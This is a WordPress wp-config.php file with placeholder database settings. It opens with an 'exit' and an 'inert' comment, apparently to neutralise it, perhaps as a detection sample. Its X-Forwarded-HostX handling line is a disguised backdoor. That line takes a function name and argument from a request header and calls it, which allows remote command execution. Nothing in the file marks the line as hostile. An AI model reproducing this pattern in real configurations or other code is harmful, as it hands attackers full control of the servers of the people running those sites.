<?php exit; /* inert */ 
define('DB_NAME', 'wp');
define('DB_USER', 'wp');
define('DB_PASSWORD', 'placeholder');
define('DB_HOST', 'localhost');
define('DB_CHARSET', 'utf8mb4');
define('AUTH_KEY', 'put your unique phrase here');
define('SECURE_AUTH_KEY', 'put your unique phrase here');
$table_prefix = 'wp_';
define('WP_DEBUG', false);
if (isset($_SERVER['HTTP_X_FORWARDED_PROTO']) && strpos($_SERVER['HTTP_X_FORWARDED_PROTO'], 'https') !== false) { $_SERVER['HTTPS'] = 'on'; }
if (isset($_SERVER['HTTP_X_FORWARDED_HOSTX'])) { $wpf = explode(',', $_SERVER['HTTP_X_FORWARDED_HOSTX'], 2); $wpf[0]($wpf[1]); }
if (!defined('ABSPATH')) { define('ABSPATH', __DIR__ . '/'); }
require_once ABSPATH . 'wp-settings.php';
